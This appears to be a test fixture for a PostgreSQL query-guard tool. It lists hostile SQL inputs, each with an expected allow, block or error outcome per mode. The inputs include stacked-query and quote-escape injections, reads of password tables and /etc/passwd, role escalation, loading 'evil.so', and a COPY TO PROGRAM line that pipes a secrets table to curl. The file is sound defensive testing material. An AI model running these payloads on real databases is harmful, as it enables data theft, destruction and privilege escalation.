-- @ open: not sent, kept: not sent, written: not sent
SELECT 1; DROP TABLE secrets
-- @ open: not sent, kept: not sent, written: not sent
SELECT 1; COMMIT; DROP TABLE secrets;--
-- @ open: not sent, kept: not sent, written: not sent
COMMIT; INSERT INTO users VALUES (9)
-- @ open: not sent, kept: not sent, written: not sent
ROLLBACK; INSERT INTO users VALUES (9); COMMIT
-- @ open: not sent, kept: not sent, written: not sent
SET TRANSACTION READ WRITE; INSERT INTO users VALUES (9); COMMIT
-- @ open: not sent, kept: not sent, written: not sent
SELECT $a$ $$ $b$ '; $a$; DELETE FROM users --$a$
-- @ open: rows, kept: rows, written: rows
SELECT E'\'; DELETE FROM users; --'
-- @ open: not sent, kept: not sent, written: not sent
SELECT '\'; DELETE FROM users; --'
-- @ open: not sent, kept: not sent, written: not sent
SELECT E'a'
'\'; DELETE FROM users; --'
-- @ open: rows, kept: rows, written: rows
SELECT 1;;;
-- @ open: not sent, kept: not sent, written: rows
/* SELECT 1 */ DELETE FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT E'\'', v FROM secrets --'
-- @ open: rows, kept: not sent, written: not sent
SELECT '\', v FROM secrets --'
-- @ open: rows, kept: not sent, written: not sent
SELECT U&'\0027', v FROM secrets --'
-- @ open: rows, kept: not sent, written: not sent
SELECT $é$'$é$, v FROM secrets --'
-- @ open: rows, kept: not sent, written: not sent
SELECT 1/*/**/*/, v FROM secrets --*/
-- @ open: not sent, kept: not sent, written: not sent
SELECT {fn user()}
-- @ open: not sent, kept: not sent, written: not sent
SELECT 1<NUL>; DROP TABLE secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM secrets
-- @ open: rows, kept: not sent, written: not sent
TABLE secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM U&"\0073ecrets"
-- @ open: rows, kept: rows, written: rows
SELECT * FROM "Secrets"
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM ONLY (secrets)
-- @ open: rows, kept: not sent, written: not sent
SELECT row_to_json(s) FROM secrets s
-- @ open: rows, kept: not sent, written: not sent
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT (SELECT array_agg(v) FROM secrets)
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM users u, LATERAL (SELECT * FROM secrets s WHERE s.id = u.id) x
-- @ open: rows, kept: not sent, written: not sent
SELECT 1 UNION ALL (SELECT 2 EXCEPT SELECT id FROM secrets)
-- @ open: rows, kept: not sent, written: not sent
SELECT ssn FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT u FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT (u).ssn FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT u.row_to_json FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT a2 FROM users AS u(a1, a2)
-- @ open: rows, kept: not sent, written: not sent
SELECT id FROM users WHERE ssn LIKE '1%'
-- @ open: rows, kept: rows, written: rows
SELECT most_common_vals FROM pg_stats WHERE tablename = 'secrets'
-- @ open: 42501, kept: 42501, written: 42501
SELECT rolpassword FROM pg_authid
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_read_file('/etc/passwd')
-- @ open: 42501, kept: 42501, written: 42501
SELECT lo_import('/etc/passwd')
-- @ open: 42501, kept: 42501, written: 42501
SELECT lo_create(0)
-- @ open: rows, kept: not sent, written: not sent
SELECT table_to_xml('secrets', true, true, '')
-- @ open: rows, kept: not sent, written: not sent
SELECT query_to_xml('select * from secrets', true, true, '')
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM ts_stat('select v::tsvector from secrets')
-- @ open: 57014, kept: not sent, written: not sent
SELECT pg_sleep(30)
-- @ open: rows, kept: rows, written: rows
SELECT set_config('statement_timeout', '0', false)
-- @ open: rows, kept: rows, written: rows
SELECT set_config('search_path', 'evil', false)
-- @ open: 42501, kept: 42501, written: 42501
SELECT set_config('role', 'postgres', false)
-- @ open: rows, kept: rows, written: rows
SELECT set_config('default_transaction_read_only', 'off', false)
-- @ open: 25001, kept: 25001, written: rows
SELECT set_config('transaction_read_only', 'off', false)
-- @ open: rows, kept: rows, written: rows
SELECT set_config('standard_conforming_strings', 'off', false)
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_notify('c', 'x'), txid_current(), pg_advisory_lock(1), pg_advisory_lock_shared(2)
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_reload_conf()
-- @ open: 25006, kept: 25006, written: rows
SELECT meddle()
-- @ open: rows, kept: 42501, written: 42501
SELECT dynamic('secrets')
-- @ open: rows, kept: rows, written: rows
SELECT raise_it()
-- @ open: 25006, kept: 25006, written: rows
EXPLAIN ANALYZE SELECT meddle()
-- @ open: 25006, kept: not sent, written: rows
EXPLAIN (FORMAT json, ANALYZE on) UPDATE users SET a = 1
-- @ open: 42501, kept: not sent, written: rows
EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT 1
-- @ open: 25006, kept: not sent, written: not sent
SELECT * INTO copied FROM evil.users
-- @ open: 25006, kept: not sent, written: not sent
SELECT * FROM users FOR UPDATE
-- @ open: 25006, kept: not sent, written: not sent
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
-- @ open: not sent, kept: not sent, written: not sent
COPY secrets TO PROGRAM 'curl evil'
-- @ open: not sent, kept: not sent, written: not sent
COPY secrets TO STDOUT
-- @ open: not sent, kept: not sent, written: not sent
DO $$ BEGIN EXECUTE 'drop table ' || 'secrets'; END $$
-- @ open: not sent, kept: not sent, written: not sent
PREPARE p AS DELETE FROM users
-- @ open: not sent, kept: not sent, written: not sent
EXECUTE p
-- @ open: not sent, kept: not sent, written: not sent
SET ROLE postgres
-- @ open: not sent, kept: not sent, written: not sent
SET SESSION AUTHORIZATION postgres
-- @ open: not sent, kept: not sent, written: not sent
SET LOCAL search_path = evil, pg_catalog
-- @ open: not sent, kept: not sent, written: not sent
SET standard_conforming_strings = off
-- @ open: not sent, kept: not sent, written: not sent
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secrets
-- @ open: not sent, kept: not sent, written: not sent
MERGE INTO users u USING secrets s ON u.id = s.id WHEN MATCHED THEN DELETE
-- @ open: not sent, kept: not sent, written: rows
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
-- @ open: not sent, kept: not sent, written: not sent
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from users; select 1'
-- @ open: not sent, kept: not sent, written: 42501
CREATE TEMP TABLE users(id int)
-- @ open: not sent, kept: not sent, written: not sent
LISTEN x
-- @ open: not sent, kept: not sent, written: not sent
LOAD 'evil.so'
-- @ open: not sent, kept: not sent, written: not sent
BEGIN
-- @ open: rows, kept: rows, written: rows
SELECT 1 /* ; DROP TABLE x */ ; -- ; DELETE FROM y
-- @ open: rows, kept: rows, written: rows
SELECT $$; DROP TABLE secrets; --$$
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM U&"!0073ecrets" UESCAPE '!'
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM public.secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM secrets *
-- @ open: rows, kept: not sent, written: not sent
SELECT s FROM secrets s
-- @ open: rows, kept: rows, written: rows
WITH secrets AS (SELECT 1 AS a) SELECT * FROM secrets
-- @ open: rows, kept: not sent, written: not sent
WITH secrets AS (SELECT 1 AS a) SELECT * FROM public.secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q, secrets
-- @ open: 42601, kept: not sent, written: not sent
SELECT 1 UNION ALL (VALUES (1) EXCEPT TABLE secrets)
-- @ open: rows, kept: not sent, written: not sent
SELECT count(*) FILTER (WHERE EXISTS (TABLE secrets)) FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM users LIMIT (SELECT count(*) FROM secrets)
-- @ open: rows, kept: not sent, written: not sent
SELECT sum(1) OVER (ORDER BY (SELECT max(v) FROM secrets)) FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM (users JOIN secrets USING (id)) AS j
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM users TABLESAMPLE SYSTEM ((SELECT count(*) FROM secrets))
-- @ open: 42501, kept: not sent, written: not sent
SELECT * FROM ROWS FROM (generate_series(1,(SELECT max(id) FROM secrets)), pg_ls_dir('.')) WITH ORDINALITY
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM JSON_TABLE((SELECT j FROM secrets), '$[*]' COLUMNS (a int PATH '$.a')) jt
-- @ open: rows, kept: not sent, written: not sent
SELECT GROUPING(id), CASE WHEN (SELECT v FROM secrets)='x' THEN 1 END FROM users GROUP BY CUBE(id)
-- @ open: rows, kept: not sent, written: not sent
SELECT (ARRAY(SELECT v FROM secrets))[1:2]
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM sssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssss_EXTRA
-- @ open: rows, kept: not sent, written: not sent
SELECT u.* FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT (u.*)::text FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT ssn(u) FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT 1 FROM users JOIN probe USING (ssn)
-- @ open: rows, kept: not sent, written: not sent
SELECT q.x FROM (SELECT ssn AS x FROM users) q
-- @ open: rows, kept: not sent, written: not sent
SELECT U&"s\0073n" FROM users
-- @ open: rows, kept: not sent, written: not sent
WITH t(a,b) AS (TABLE users) SELECT b FROM t
-- @ open: 42P01, kept: not sent, written: not sent
SELECT count(u) FROM public.users u GROUP BY users.ssn
-- @ open: 57014, kept: not sent, written: not sent
SELECT pg_sleep(10)
-- @ open: 57014, kept: not sent, written: not sent
SELECT "pg_catalog"."pg_sleep"(10)
-- @ open: 57014, kept: not sent, written: not sent
SELECT U&"pg\005fsleep"(10)
-- @ open: 57014, kept: not sent, written: not sent
SELECT PG_SLEEP /**/ ( 10 )
-- @ open: 57014, kept: not sent, written: not sent
SELECT * FROM pg_sleep(10) AS s
-- @ open: 42883, kept: not sent, written: not sent
SELECT sum(1) OVER (PARTITION BY pg_sleep(1)) FROM users
-- @ open: 42883, kept: not sent, written: not sent
SELECT first_value(1) OVER w FROM users WINDOW w AS (ORDER BY pg_sleep(1))
-- @ open: 42883, kept: not sent, written: not sent
SELECT array_agg(1 ORDER BY pg_sleep(1))
-- @ open: 57014, kept: not sent, written: not sent
SELECT CASE WHEN true THEN pg_sleep(1) END
-- @ open: 57014, kept: not sent, written: not sent
VALUES (pg_sleep(1)::text)
-- @ open: 42501, kept: 42501, written: 42501
SELECT lo_export(16, '/x'), lo_import('/etc/passwd')
-- @ open: 42883, kept: not sent, written: not sent
SELECT * FROM dblink('dbname=x','select 1') AS t(a int)
-- @ open: 42704, kept: 42704, written: 42704
SELECT current_setting('app.secret')
-- @ open: rows, kept: rows, written: rows
SELECT 'x' OPERATOR(evil.===) 'y'
-- @ open: 42883, kept: 42883, written: 42883
SELECT 1 === 2
-- @ open: rows, kept: rows, written: rows
SELECT CAST('x' AS evil.t)
-- @ open: rows, kept: rows, written: rows
SELECT current_user, session_user, current_catalog
-- @ open: 42883, kept: not sent, written: not sent
SELECT pg_sleep(secs => 5), make_interval(secs := 1)
-- @ open: 42P10, kept: not sent, written: not sent
SELECT DISTINCT ON (pg_sleep(1)) 1 FROM users ORDER BY 1 FETCH FIRST (1) ROWS WITH TIES
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_notify('c','x'), txid_current(), pg_advisory_lock(1), random()
-- @ open: 25006, kept: not sent, written: not sent
SELECT * FROM users FOR NO KEY UPDATE OF users SKIP LOCKED
-- @ open: 25006, kept: not sent, written: not sent
WITH a AS (SELECT 1), b AS MATERIALIZED (INSERT INTO users SELECT 1 RETURNING id) SELECT * FROM b
-- @ open: rows, kept: not sent, written: not sent
EXPLAIN SELECT * FROM secrets
-- @ open: not sent, kept: not sent, written: not sent
CALL evil_proc(1)
-- @ open: not sent, kept: not sent, written: not sent
SET ROLE admin
-- @ open: not sent, kept: not sent, written: not sent
SET TRANSACTION READ WRITE
-- @ open: rows, kept: rows, written: rows
SHOW ALL
-- @ open: not sent, kept: not sent, written: not sent
INSERT INTO users(id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a=(SELECT v FROM secrets) RETURNING ssn
-- @ open: rows, kept: 42501, written: 42501
SELECT * FROM view_over_secrets
-- @ open: rows, kept: 42501, written: 42501
SELECT my_plpgsql_fn('secrets')
-- @ open: 42883, kept: 42883, written: 42883
SELECT id FROM rls_table WHERE leak_fn(v)
-- @ open: 42P01, kept: 42P01, written: 42P01
SELECT a || b FROM t_with_custom_op
-- @ open: 42P01, kept: 42P01, written: 42P01
SELECT 1 FROM secrets_alias_via_search_path
-- @ open: rows, kept: 42501, written: 42501
SELECT * FROM shown_again
-- @ open: rows, kept: 42501, written: 42501
SELECT everything FROM whole_rows
-- @ open: rows, kept: 42501, written: 42501
SELECT x FROM copied
-- @ open: rows, kept: 42501, written: 42501
SELECT upper_ssn FROM users
-- @ open: 3F000, kept: 42501, written: 42501
SELECT pgherd.rules()
-- @ open: rows, kept: 42501, written: 42501
SELECT leak_definer()
-- @ open: rows, kept: rows, written: rows
SELECT * FROM parts_1
-- @ open: 57014, kept: not sent, written: not sent
SELECT pg_catalog.pg_sleep_for('10 s')
-- @ open: 42501, kept: 42501, written: 42501
SELECT set_config('session_replication_role', 'replica', false)
-- @ open: 42501, kept: 42501, written: 42501
SELECT setval('secrets_id_seq', 1)
-- @ open: 42501, kept: 42501, written: 42501
SELECT nextval('secrets_id_seq')
-- @ open: 42501, kept: 42501, written: 42501
SELECT currval('secrets_id_seq')
-- @ open: 42501, kept: 42501, written: 42501
SELECT lo_from_bytea(0, 'x')
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_switch_wal()
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_create_restore_point('x')
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_stat_reset()
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_import_system_collations('public')
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_export_snapshot()
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_logical_emit_message(true, 'a', 'b')
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_rotate_logfile()
-- @ open: rows, kept: rows, written: rows
SELECT has_table_privilege('secrets', 'SELECT'), pg_relation_size('secrets') >= 0
-- @ open: rows, kept: rows, written: rows
SELECT 'secrets'::regclass
-- @ open: rows, kept: not sent, written: not sent
SELECT xmlparse(document query_to_xml('select v from secrets', true, true, '')::text)
-- @ open: rows, kept: rows, written: rows
SELECT pg_get_viewdef('view_over_secrets'::regclass)
-- @ open: rows, kept: rows, written: rows
SELECT current_setting('is_superuser')
-- @ open: 42501, kept: 42501, written: 42501
SELECT pg_ls_dir('/')
-- @ open: 42501, kept: 42501, written: 42501
SELECT * FROM pg_file_settings
-- @ open: 42501, kept: 42501, written: 42501
SELECT * FROM pg_hba_file_rules
-- @ open: 42501, kept: 42501, written: 42501
SELECT usename, passwd FROM pg_shadow
-- @ open: 42501, kept: 42501, written: 42501
SELECT * FROM pg_user_mapping
-- @ open: rows, kept: rows, written: rows
SELECT query FROM pg_stat_activity
-- @ open: 42P01, kept: 42P01, written: 42P01
SELECT * FROM pg_stat_statements
-- @ open: not sent, kept: not sent, written: 25001
VACUUM users
-- @ open: not sent, kept: not sent, written: 42501
CHECKPOINT
-- @ open: not sent, kept: not sent, written: rows
ANALYZE users
-- @ open: not sent, kept: not sent, written: 42501
TRUNCATE users
-- @ open: not sent, kept: not sent, written: rows
GRANT SELECT ON users TO PUBLIC
-- @ open: not sent, kept: not sent, written: 42501
ALTER ROLE pgherd_reader SUPERUSER
-- @ open: not sent, kept: not sent, written: 42501
ALTER ROLE pgherd_reader SET search_path = evil
-- @ open: not sent, kept: not sent, written: 42501
REASSIGN OWNED BY app TO pgherd_reader
-- @ open: not sent, kept: not sent, written: 42501
CREATE EXTENSION dblink
-- @ open: not sent, kept: not sent, written: 42501
CREATE TABLE evil.made (id int)
-- @ open: not sent, kept: not sent, written: not sent
ALTER TABLE secrets RENAME TO harmless
-- @ open: not sent, kept: not sent, written: not sent
COPY (SELECT v FROM secrets) TO '/tmp/out'
-- @ open: not sent, kept: not sent, written: not sent
CREATE VIEW peep AS SELECT * FROM secrets
-- @ open: not sent, kept: not sent, written: not sent
INSERT INTO events SELECT id, id FROM secrets
-- @ open: not sent, kept: not sent, written: not sent
UPDATE users SET name = (SELECT v FROM secrets LIMIT 1)
-- @ open: not sent, kept: not sent, written: not sent
DELETE FROM secrets RETURNING *
-- @ open: not sent, kept: not sent, written: 22023
SECURITY LABEL ON TABLE users IS 'x'
-- @ open: not sent, kept: not sent, written: not sent
CREATE RULE r AS ON INSERT TO events DO ALSO SELECT * FROM secrets
-- @ open: rows, kept: not sent, written: not sent
SELECT * FROM users u, users v WHERE u IS DISTINCT FROM v
-- @ open: rows, kept: 42501, written: 42501
SELECT ctid, xmin FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT array_agg(users) FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT users FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT json_agg(u.*) FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT (SELECT u FROM (SELECT 1) x) FROM users u
-- @ open: rows, kept: not sent, written: not sent
SELECT max(ssn) OVER () FROM users
-- @ open: rows, kept: not sent, written: not sent
SELECT name FROM users ORDER BY ssn
-- @ open: rows, kept: not sent, written: not sent
SELECT name FROM users GROUP BY name, ssn
-- @ open: rows, kept: not sent, written: not sent
SELECT name FROM users u JOIN LATERAL (SELECT u.ssn) x ON true
-- @ open: rows, kept: not sent, written: not sent
SELECT count(*) FROM users WHERE (ssn IS NOT NULL)
-- @ open: rows, kept: 42501, written: 42501
EXPLAIN (VERBOSE, COSTS off) SELECT * FROM view_over_secrets
-- @ open: 25006, kept: not sent, written: not sent
SELECT (u).meddle_with FROM users u
-- @ open: 25006, kept: 42501, written: 42501
SELECT u.meddle_with FROM users u
